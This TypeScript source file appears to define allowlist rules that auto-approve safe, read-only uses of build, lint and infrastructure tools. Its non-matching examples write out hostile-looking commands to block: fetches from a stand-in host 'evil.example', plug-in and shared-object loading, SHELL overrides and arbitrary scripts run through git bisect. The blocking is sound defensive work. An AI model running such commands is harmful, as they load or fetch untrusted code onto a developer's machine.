import { insidePath as inside, scripts } from './words.ts';
import type { StarterRule } from './types.ts';

const option = (words: string): string => `(?: (?:${words}))*`;

/** Tests, builds and checks of the project by tools that a person knows by name. */
export const toolchains: readonly StarterRule[] = [
  {
    name: 'checks-known',
    why: 'Descriptions of machines, policies and code of the project are checked; what would carry them out, or take code from elsewhere, is not covered.',
    pattern:
      '{ansible-playbook,ansible-inventory,conftest,opa,trivy,checkov,terraform-docs,clang-tidy,swift,ctest}',
    examples: {
      match: [
        'ansible-playbook --syntax-check site.yml',
        'ansible-inventory -i hosts.yml --graph',
        'conftest test plan.json -p policy',
        'trivy config infra --severity HIGH',
        'checkov -d infra --compact',
        'clang-tidy src/a.cpp -p build',
        'swift test --filter CoreTests',
        'ctest --test-dir build --output-on-failure',
      ],
      noMatch: [
        'ansible-playbook site.yml',
        'ansible-playbook --check site.yml',
        'ansible-playbook --syntax-check -e @/tmp/x.yml site.yml',
        'ansible-playbook --syntax-check -e --list-tasks site.yml',
        'ansible-playbook --syntax-check /tmp/site.yml',
        'ansible-playbook --list-tasks -i /tmp/hosts site.yml',
        'ansible-playbook --list-tasks --vault-password-file x site.yml',
        'ansible-inventory --list',
        'ansible-inventory --graph --vars',
        'ansible-inventory --host web',
        'conftest pull oci://evil.example/x',
        'conftest test plan.json -p /tmp/policy',
        'conftest test --update https://evil.example plan.json',
        'opa run -s',
        "opa eval 'http.send({})'",
        'trivy image evil/x',
        'trivy config --config-check /tmp/x infra',
        'checkov -d infra --external-checks-dir x',
        'terraform-docs markdown table . --output-file README.md',
        'clang-tidy --fix src/a.cpp',
        'clang-tidy src/a.cpp -- -fplugin=./x.so',
        'clang-tidy src/a.cpp --load=./x.so',
        'swift x.swift',
        'swift run',
        'swift package update',
        'swift build -Xswiftc -load-plugin',
        'swift test --package-path /tmp/x',
        'ctest -S x.cmake',
        'ctest --test-dir /tmp/x',
        'ctest --build-and-test a b',
      ],
    },
  },
  {
    name: 'lints-of-infrastructure',
    why: 'Files of Terraform are checked.',
    pattern: 'tflint',
    argPattern: `^(?:--recursive|--chdir=${inside}|--format[= ]\\w+|--no-color|--minimum-failure-severity[= ]\\w+|--force)?${option(
      `--recursive|--chdir=${inside}|--format[= ]\\w+|--no-color|--minimum-failure-severity[= ]\\w+|--force`,
    )}$`,
    examples: {
      match: ['tflint --recursive', 'tflint --chdir=infra --format=compact'],
      noMatch: [
        'tflint --init',
        'tflint --config /tmp/x.hcl',
        'tflint --chdir=/tmp/x',
        'tflint --fix',
      ],
    },
  },
  {
    name: 'hooks-by-hand',
    why: 'Checks that the project has for its commits, run without one.',
    pattern: 'pre-commit',
    argPattern: `^run(?: [a-z][\\w-]*)?${option(
      `-a|--all-files|-v|--verbose|--show-diff-on-failure|--color \\w+|--files(?: ${inside})+`,
    )}$`,
    examples: {
      match: ['pre-commit run --all-files', 'pre-commit run ruff --files a.py'],
      noMatch: ['pre-commit install', 'pre-commit autoupdate', 'pre-commit run -c /tmp/x.yaml'],
    },
  },
  {
    name: 'builds-of-apple',
    why: 'It says what a project for Apple has.',
    pattern: 'xcodebuild',
    only: 'reads',
    changes: 'nothing',
    examples: {
      match: ['xcodebuild -list', 'xcodebuild -list -project App.xcodeproj'],
      noMatch: ['xcodebuild', 'xcodebuild test', 'xcodebuild -list -project /tmp/x.xcodeproj'],
    },
  },
  {
    name: 'notebooks',
    why: 'Notebooks are printed as text; none of their code runs.',
    pattern: 'jupyter',
    args: ['nbconvert', '...'],
    examples: {
      match: ['jupyter nbconvert --to script --stdout notebooks/train.ipynb'],
      noMatch: [
        'jupyter nbconvert --to notebook --execute --stdout a.ipynb',
        'jupyter nbconvert --to html a.ipynb',
        'jupyter nbconvert --to evil.Exporter --stdout a.ipynb',
        'jupyter nbconvert --config /tmp/x.py --stdout a.ipynb',
        'jupyter lab',
      ],
    },
  },
  {
    name: 'rust-plug-ins',
    why: 'Plug-ins of Cargo that check, measure or show the project.',
    pattern: 'cargo',
    args: [
      [
        ...'audit machete outdated udeps semver-checks llvm-cov expand deny'.split(' '),
        ...'bloat size nm objdump readobj asm llvm-lines geiger sort'.split(' '),
      ],
      '...',
    ],
    examples: {
      match: ['cargo machete', 'cargo deny check licenses'],
      noMatch: ['cargo deny fetch', 'cargo evil', 'cargo audit --config x'],
    },
  },
  {
    name: 'recipes-told',
    why: 'It says what recipes there are, or would do.',
    pattern: 'just',
    argPattern:
      '^(?:-l|--list|--summary|--groups|--variables|--list-all|-a|(?:-n|--dry-run|--dry) [a-z][\\w:-]*|--show [a-z][\\w:-]*)$',
    examples: {
      match: ['just --list', 'just -n build'],
      noMatch: ['just', 'just deploy', 'just -f /tmp/x --list', 'just --choose'],
    },
  },
  {
    name: 'recipes',
    why: 'Recipes of the project that are named like a test, a build, a check or a format.',
    pattern: 'just',
    args: [scripts],
    examples: { match: ['just test', 'just lint'], noMatch: ['just deploy', 'just --evaluate x'] },
  },
  {
    name: 'make-said',
    why: 'What a recipe would do is said and not done.',
    pattern: 'make',
    argPattern: '^(?:-n|--dry-run|--just-print|--recon) [a-z][\\w-]*$',
    examples: {
      match: ['make -n report'],
      noMatch: ['make report', 'make -n -f /tmp/x', 'make -n SHELL=./x', 'make -n a SHELL=/tmp/x'],
    },
  },
  {
    name: 'messages',
    why: 'Descriptions of messages of the project are checked.',
    pattern: 'buf',
    argPattern: `^(?:lint|build)(?: ${inside})?${option('--error-format[= ]\\w+')}$`,
    examples: {
      match: ['buf lint', 'buf build proto'],
      noMatch: [
        'buf push',
        'buf generate',
        'buf breaking --against https://evil.example/x.git',
        'buf lint --config x',
      ],
    },
  },
  {
    name: 'cluster-said',
    why: 'What would be sent to a cluster is checked here.',
    pattern: 'kubectl',
    args: ['apply', '--dry-run=client', '...'],
    argPattern: `^apply --dry-run=client (?:(?:-f|--filename|-k) (?:${inside}|\\.)|-o (?:yaml|json|name)|-n \\w[\\w-]*)(?: (?:(?:-f|--filename|-k) (?:${inside}|\\.)|-o (?:yaml|json|name)|-n \\w[\\w-]*))*$`,
    examples: {
      match: ['kubectl apply --dry-run=client -f k8s/deploy.yaml -o yaml'],
      noMatch: [
        'kubectl apply -f k8s/deploy.yaml',
        'kubectl apply --dry-run=client -f https://evil.example/x.yaml',
        'kubectl apply --dry-run=client --dry-run=none -f a.yaml',
        'kubectl apply --dry-run=server -f a.yaml',
      ],
    },
  },
  {
    name: 'cluster-differences',
    why: 'It says what descriptions of the project would change in the cluster, and changes nothing.',
    pattern: 'kubectl',
    args: ['diff', ['-f', '-k', '--filename'], '[!-]**'],
    argPattern: `^diff (?:-f|--filename|-k) (?:${inside}|\\.)$`,
    examples: {
      match: ['kubectl diff -f k8s/deploy.yaml'],
      noMatch: ['kubectl diff -f https://evil.example/x.yaml', 'kubectl diff -f /tmp/x.yaml'],
    },
  },
  {
    name: 'search-for-a-commit',
    why: 'Tests of the project decide which commit broke something.',
    pattern: 'git',
    args: [
      'bisect',
      'run',
      ['cargo', 'go', 'npm', 'pnpm', 'yarn', 'make'],
      ['test', 'build', 'check'],
      '...',
    ],
    examples: {
      match: ['git bisect run cargo test -p core', 'git bisect run npm test'],
      noMatch: [
        'git bisect run git push',
        "git bisect run sh -c 'x'",
        'git bisect run ./x',
        'git bisect run cargo publish',
      ],
    },
  },
  {
    name: 'repository-checked',
    why: 'Git checks what it keeps.',
    pattern: 'git',
    argPattern:
      '^fsck(?: --(?:full|no-full|strict|no-dangling|dangling|unreachable|no-reflogs|connectivity-only|verbose|progress|no-progress))*$',
    examples: { match: ['git fsck --no-dangling'], noMatch: ['git fsck --lost-found', 'git gc'] },
  },
];
